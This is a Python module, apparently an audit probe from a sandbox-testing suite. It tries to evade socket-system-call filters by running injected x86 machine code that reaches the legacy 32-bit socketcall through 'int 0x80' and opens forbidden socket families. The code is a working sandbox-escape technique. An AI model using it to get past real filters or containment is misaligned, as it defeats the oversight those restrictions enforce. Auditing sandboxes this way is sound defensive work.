"""Opens a packet-less but forbidden family by 32-bit ``socketcall``, past filters on ``socket``.

A few bytes of machine code make the call by ``int 0x80``. Its arguments have to lie below 4 GiB.
"""

import ctypes
import mmap
import os
import signal

from pacabench.audit.attacks.kit import Found, Given, found, missing

_AF_VSOCK = 40
_AF_ALG = 38
_SOCKETCALL = 102
_SYS_SOCKET = 1
_MAP_32BIT = 0x40
_CODE = (
    b"\x53"  # push rbx
    b"\xb8" + _SOCKETCALL.to_bytes(4, "little") +  # mov eax, socketcall
    b"\xbb" + _SYS_SOCKET.to_bytes(4, "little") +  # mov ebx, SYS_SOCKET
    b"\x89\xf9"  # mov ecx, edi: the arguments' address
    b"\xcd\x80"  # int 0x80
    b"\x48\x98"  # cdqe
    b"\x5b\xc3"  # pop rbx; ret
)  # fmt: skip


def attack(_: Given) -> Found:
    """See above."""
    if os.uname().machine != "x86_64":
        return missing("only x86-64 kernels have int 0x80")
    seen = {}
    for name, family in (("AF_VSOCK", _AF_VSOCK), ("AF_ALG", _AF_ALG), ("AF_UNIX", 1)):
        seen[name] = _in_a_child(family)
    if set(seen.values()) == {"killed"}:
        return missing("this kernel has no 32-bit system calls", made=seen)
    return found("done" in seen.values(), made=seen)


def _in_a_child(family: int) -> str:
    """Without 32-bit support the kernel kills whoever tries."""
    child = os.fork()
    if child == 0:
        signal.signal(signal.SIGSEGV, signal.SIG_DFL)
        os._exit(0 if _socket(family) >= 0 else 1)
    _, status = os.waitpid(child, 0)
    if os.WIFSIGNALED(status):
        return "killed"
    return "done" if os.WEXITSTATUS(status) == 0 else "refused"


def _socket(family: int) -> int:
    flags = mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | _MAP_32BIT
    rights = mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC
    page = mmap.mmap(-1, 4096, flags=flags, prot=rights)
    code = ctypes.addressof(ctypes.c_char.from_buffer(page))
    page.write(_CODE.ljust(64, b"\x90"))
    arguments = (ctypes.c_uint32 * 3).from_buffer(page, 64)
    arguments[:] = [family, 1, 0]
    call = ctypes.CFUNCTYPE(ctypes.c_long, ctypes.c_uint32)(code)
    return int(call(code + 64))
